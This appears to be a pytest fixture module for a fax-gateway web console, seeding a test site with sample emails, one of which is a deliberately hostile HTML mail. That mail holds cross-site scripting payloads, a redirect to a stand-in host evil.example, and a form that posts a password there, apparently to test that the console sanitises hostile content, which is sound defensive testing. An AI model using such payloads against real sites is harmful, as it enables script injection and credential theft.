"""A site whose faxes show every screen of the console something: made once, for tests that only look."""

from collections.abc import Iterator
from dataclasses import dataclass

import httpx
import pytest

from appliance.hosting import hosting
from appliance.web import Address, application, serving

RFC822 = {"Content-Type": "message/rfc822"}
CUT, FAILED, DRESSED, HOSTILE, WAITING = range(1, 6)
"""The faxes: cut on page 2 of 3 and delivered then, failed, an HTML mail, an HTML mail that means harm, one that waits."""

_DRESSED = b"""From: Lena Berg <lena@contoso.example>
To: [FAX:Bob Lee@+1 425 555 0101]
Subject: Offer
Message-ID: <offer@contoso.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="m"

--m
Content-Type: multipart/alternative; boundary="a"

--a
Content-Type: text/plain; charset=utf-8

Dear Bob, the offer.
--a
Content-Type: text/html; charset=utf-8

<p>Dear Bob, the <b>offer</b>. <img src="cid:logo" alt="Logo">
--a--
--m
Content-Type: image/png; name="logo.png"
Content-ID: <logo>
Content-Transfer-Encoding: base64

iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==
--m--
"""
_HOSTILE = b"""From: eve@contoso.example
To: [FAX:+1 425 555 0102]
Subject: <script>alert(1)</script>
Message-ID: <hostile@contoso.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<p>hello<script>top.location='https://evil.example/'</script><img src="https://evil.example/seen.png"
onerror="alert(1)"><form action="https://evil.example/"><input name="password"></form>
"""


def plain_mail(number: str, subject: str, text: str = "hello", sender: str = "ann@contoso.example") -> bytes:
    """A mail of plain text, with a Message-ID made of its subject."""
    head = f"From: {sender}\nTo: [FAX:Bob Lee@{number}]\nSubject: {subject}\nMessage-ID: <{subject}@contoso.example>\n"
    return f"{head}\n{text}\n".encode()


@dataclass(frozen=True, kw_only=True)
class Shelf:
    """The client, whose paths begin with the server, and the address of the site's pages."""

    web: httpx.Client

    @property
    def site(self) -> str:
        """The address of the site."""
        return f"{self.web.base_url}sites/shelf"

    def page(self, path: str) -> httpx.Response:
        """Return a page of the site."""
        return self.web.get(f"/sites/shelf/{path}")


@pytest.fixture(scope="package")
def shelf(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shelf]:
    with (
        hosting(tmp_path_factory.mktemp("shelf")) as sites,
        serving(application(sites), Address(host="127.0.0.1", port=0)) as at,
        httpx.Client(base_url=at.url, timeout=60, trust_env=False) as web,
    ):
        web.post("/api/v1/sites", json={"name": "shelf", "seed": 7}).raise_for_status()
        here = "/api/v1/sites/shelf"
        mails = (
            plain_mail("+1 425 555 0162", "agreement", "one\f two\f three"),
            plain_mail("+1 425 555 0150", "invoice"),
        )
        for mail in (*mails, _DRESSED, _HOSTILE):
            web.post(f"{here}/mails", content=mail, headers=RFC822).raise_for_status()
        assert web.post(f"{here}/clock/run-until-idle").json()["idle"]
        last = plain_mail("+1 425 555 0110", "lunch", sender="bob@contoso.example")
        web.post(f"{here}/mails", content=last, headers=RFC822).raise_for_status()
        web.post(f"{here}/clock/advance", json={"seconds": 90}).raise_for_status()
        yield Shelf(web=web)
